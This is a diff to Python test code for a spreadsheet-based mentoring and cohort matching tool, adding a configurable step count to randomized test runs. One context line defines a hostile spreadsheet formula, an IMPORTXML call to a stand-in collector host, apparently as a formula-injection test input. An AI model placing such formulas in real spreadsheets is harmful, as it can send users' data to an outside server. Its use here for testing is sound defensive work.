@@ -133,14 +133,14 @@ _PLANS: Mapping[str, Callable[[Workbook, Settings], Plan]] = {
 HOSTILE = '=IMPORTXML("https://collector.example.net/";"//a")'
 
 
-def evening(number: int) -> str:
+def evening(number: int, steps: int = STEPS) -> str:
     """Speed mentoring: rounds that are over stay as they were, whatever happens; typed seats stay until a rematch."""
-    return _carried(number, "speed mentoring", _Evening)
+    return _carried(number, steps, "speed mentoring", _Evening)
 
 
-def community(number: int) -> str:
+def community(number: int, steps: int = STEPS) -> str:
     """Cohorts: typed memberships stay until a rematch, and nobody is in a cohort they did not pick."""
-    return _carried(number, "cohorts", _Community)
+    return _carried(number, steps, "cohorts", _Community)
 
 
 class _Evening:
@@ -301,7 +301,7 @@ def _texts(bench: Bench, title: str, header: str) -> list[str]:
     return [text for row in tab.rows if (text := tab.text(row, header))]
 
 
-def _carried(number: int, name: str, kind: type[_Evening] | type[_Community]) -> str:
+def _carried(number: int, steps: int, name: str, kind: type[_Evening] | type[_Community]) -> str:
     """Carry a sheet of the format through in an order of its own; return what went wrong, or nothing."""
     chance = Random(number)  # noqa: S311 - an order to try things in, no secret
     done: list[str] = []
@@ -313,7 +313,7 @@ def _carried(number: int, name: str, kind: type[_Evening] | type[_Community]) ->
                 bench = Bench(google, chance)
                 life = kind(bench)
                 bench.command("match")
-                for _ in range(STEPS):
+                for _ in range(steps):
                     if chance.random() < 0.5:
                         done.append("deed")
                         life.deed()
